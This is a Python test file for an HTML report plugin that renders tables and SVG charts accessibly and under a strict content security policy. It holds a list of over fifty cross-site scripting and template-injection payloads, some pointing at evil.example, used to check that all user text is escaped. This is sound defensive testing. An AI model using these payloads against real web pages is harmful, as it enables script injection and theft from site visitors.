"""The page as a browser gets it: every text as text, tables that can be read aloud, charts with their numbers."""

import base64
import hashlib
import html
import re
from html.parser import HTMLParser

import attrs
import pytest

import casework_html
from casework.application.plugin_choice import PluginChoice
from casework.application.ports import Table
from casework.errors import ConfigurationError
from casework.plugins.host import PluginHost
from casework_html.charts import CHART
from casework_html.page import PageReport

BINS = Table(
    name="bins",
    title="Bins missed",
    columns=("service_team", "missed", "percent"),
    rows=(("north", 3, 12.5), ("south", None, 4.0), ("", 0, -0.25)),
    notes=("Counted by hand.", ""),
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "</td></tr></table><script>alert(1)</script>",
    "</caption><h1>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    'x" style="background:url(//evil.example)',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "<\u0000script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<scr\u200dipt>alert(1)</scr\u200dipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "javascript:alert(1)",
)


class Reader(HTMLParser):
    """What a browser finds: every element with its attributes, and the texts between them."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.texts = [], []
        self.feed(page.decode())

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.texts.append(data.strip())

    def all(self, tag):
        return [found for name, found in self.elements if name == tag]


def page(*tables, **settings):
    return Reader(PageReport(**settings).render(tables))


def names(attributes):
    """The names of the attributes; a long text is wider by its class."""
    return sorted(set(attributes) - {"class"})


def chart(*rows, columns=CHART):
    return Table(name="charts", title="Charts", columns=columns, rows=rows)


def point(period, percent, *, series="town/x", usual=None, standing="judged"):
    lower, upper = (None, None) if usual is None else (usual - 20, usual + 20)
    return (series, "Letters in time", period, percent, 20, usual, lower, upper, standing)


def test_the_installed_plugin_offers_the_format():
    assert PluginHost().reports.get("html")().render(()).startswith(b"<!DOCTYPE html>\n")


def test_what_stands_on_top_is_a_setting():
    host = PluginHost([casework_html], choice=PluginChoice(settings={"html": {"title": "Our promises"}}))

    assert b'<h1 dir="auto">Our promises</h1>' in host.reports.get("html")().render(())


def test_what_stands_on_top_is_what_the_first_table_is_about_if_nobody_says_otherwise():
    assert {"Report: Bins missed"} < set(page(BINS).texts)
    assert "Report" in page().texts


@pytest.mark.parametrize("title", ["", 5])
def test_something_has_to_stand_on_top(title):
    with pytest.raises(ConfigurationError, match=r"plugins\.html.*title"):
        PluginHost([casework_html], choice=PluginChoice(settings={"html": {"title": title}}))


def test_a_table_has_a_caption_and_headings_of_columns_and_rows():
    found = page(BINS)

    assert "Bins missed: 3 rows" in found.texts
    assert [each["scope"] for each in found.all("th")] == ["col"] * 3 + ["row"] * 3
    assert [text for text in found.texts if text in {"Service team", "Missed", "Percent"}] == [
        "Service team", "Missed", "Percent",
    ]  # fmt: skip
    assert found.texts.index("north") < found.texts.index("12.5")
    assert ["number" in each.get("class", "") for each in found.all("th")] == [False, True, True] + 3 * [False]
    assert all(each["class"] == "number" for each in found.all("td"))
    assert {"4", "-0.25", "-", "Counted by hand."} <= set(found.texts)
    assert len(found.all("li")) == 1


def test_headings_come_in_order_and_every_table_can_be_reached():
    found = page(BINS, attrs.evolve(BINS, title="Bins lost", rows=(), notes=()))

    assert [tag for tag, _ in found.elements if re.fullmatch(r"h\d", tag)] == ["h1", "h2", "h2"]
    assert [each["href"] for each in found.all("a")] == ["#main", "#table-1", "#table-2"]
    assert [each["id"] for each in found.all("section")] == ["table-1", "table-2"]
    assert all(each["tabindex"] == "0" for each in found.all("div"))
    assert len({each["aria-label"] for each in found.all("div")}) == 2
    assert "Nothing." in found.texts
    assert found.all("html") == [{"lang": "en"}]


def test_the_page_allows_its_own_style_and_nothing_else():
    document = PageReport().render((BINS,)).decode()
    (style,) = re.findall(r"<style>(.*?)</style>", document, re.DOTALL)
    (policy,) = [each["content"] for each in Reader(document.encode()).all("meta") if "http-equiv" in each]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()

    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert not re.search(r"<script|\bon\w+=|\bstyle=|https?:|url\(|@import", document)


def test_there_are_fifty_payloads_at_least():
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_whatever_people_write_arrives_as_text(payload):
    awkward = Table(name=payload, title=payload, columns=(payload, "two"), rows=((payload, payload),), notes=(payload,))
    points = chart((payload, payload, payload, 50.0, payload, None, None, None, payload))
    plain = Table(name="x", title="x", columns=("x", "two"), rows=(("x", "x"),), notes=("x",))
    calm = chart(("x", "x", "x", 50.0, "x", None, None, None, "x"))
    document = PageReport(title=payload).render((awkward, points))
    found, expected = Reader(document), page(plain, calm, title="x")
    shown = "".join(" " if sign in "\x00\u202e" else sign for sign in payload)

    assert [tag for tag, _ in found.elements] == [tag for tag, _ in expected.elements]
    assert [names(each) for _, each in found.elements] == [names(each) for _, each in expected.elements]
    assert html.escape(shown.strip(), quote=False) in document.decode().replace("&#34;", '"').replace("&#39;", "'")
    assert found.texts.count(shown.strip()) >= 4


def test_half_a_character_and_control_characters_are_blanks_and_lines_stay():
    found = page(attrs.evolve(BINS, notes=("a\ud800b\x07c\nd \u200d",)))

    assert "a b c\nd \u200d" in found.texts


def test_a_column_without_a_name_is_told_as_nothing():
    assert "-" in page(Table(name="x", title="x", columns=("_",), rows=(("a",),))).texts


# Charts


def test_each_series_is_a_picture_with_title_and_description_and_the_same_numbers_in_a_table():
    found = page(
        chart(
            point("2026-01", 60.0, usual=70.0),
            point("2026-02", 80.0, usual=70.0),
            point("2026-03", None, standing="too small"),
            point("2026-01", 95.0, series="town/y", standing="provisional"),
        )
    )

    assert len(found.all("svg")) == len(found.all("table")) == 2
    assert [each["aria-labelledby"] for each in found.all("svg")] == [
        "table-1-1-title table-1-1-desc", "table-1-2-title table-1-2-desc",
    ]  # fmt: skip
    assert "Letters in time" in found.texts
    assert any(text.startswith("From 60.0 % in 2026-01 to 80.0 % in 2026-02, between") for text in found.texts)
    assert "2026-02: 80.0 % of 20, judged" in found.texts
    assert {"60", "80", "too small", "Usual"} <= set(found.texts)
    assert [each["class"] for each in found.all("circle")] == ["judged", "judged", "waits"]
    assert len(found.all("polygon")) == 1


def described(*rows):
    """What is said of the one picture of these rows."""
    (said,) = [text for text in page(chart(*rows)).texts if text.endswith("All numbers are in the table below.")]
    return said


def test_a_picture_of_one_figure_without_a_line_says_that_and_no_more():
    assert described(point("2025-12", 73.68), point("2026-01", None)) == (
        "One figure: 73.68 % in 2025-12. What is usual is not known yet. All numbers are in the table below."
    )


def test_a_line_and_a_band_are_told_only_where_they_are_drawn():
    with_both = [point("2026-01", 60.0, usual=70.0), point("2026-02", 80.0, usual=70.0)]
    line_alone = [(*row[:6], None, None, row[8]) for row in with_both]

    assert "The line across is what is usual, and within the band chance alone moves a figure." in described(*with_both)
    assert "The line across is what is usual. All" in described(*line_alone)


def test_a_point_outside_of_the_band_is_marked_and_told():
    outside = point("2026-02", 20.0, usual=70.0, standing="outside")
    found = page(chart(point("2026-01", 60.0, usual=70.0), outside))

    assert [(each["class"], each["r"]) for each in found.all("circle")] == [("judged", "4"), ("outside", "7")]
    assert "Further from the usual than chance alone goes: 2026-02." in described(
        point("2026-01", 60.0, usual=70.0), outside
    )


def test_higher_shares_stand_higher_and_later_periods_further_to_the_right():
    first, second = page(chart(point("2026-01", 60.0), point("2026-02", 80.0))).all("circle")

    assert float(second["cy"]) < float(first["cy"])
    assert float(second["cx"]) > float(first["cx"])


def test_every_chart_has_the_same_axis_so_that_two_can_be_compared():
    high, low = page(chart(point("2026-01", 90.0))), page(chart(point("2026-01", 10.0)))

    for found in (high, low):
        assert [each for each in found.texts if re.fullmatch(r"\d+ %", each)] == [
            "0 %",
            "25 %",
            "50 %",
            "75 %",
            "100 %",
        ]


def test_a_page_of_standards_is_called_by_its_framework_and_any_other_one_a_report():
    town = attrs.evolve(BINS, name="standards", title="Our charter: 2026-Q1")

    assert page(town).texts.count("Our charter: 2026-Q1") >= 2
    assert "Report: Our charter: 2026-Q1" not in page(town).texts
    assert "Report: Bins missed" in page(BINS).texts


def test_a_series_without_a_figure_says_so():
    found = page(chart(point("2026-01", None)))

    assert "No period has a figure. The same is in the table below." in found.texts
    assert found.all("circle") == []


def test_of_many_periods_only_some_are_named():
    found = page(chart(*(point(f"20{20 + place // 12}-{1 + place % 12:02d}", 60.0) for place in range(36))))

    assert len(found.all("text")) == 6 + 5


def test_a_chart_of_nothing_is_a_table_of_nothing():
    found = page(chart())

    assert found.all("svg") == []
    assert "Nothing." in found.texts
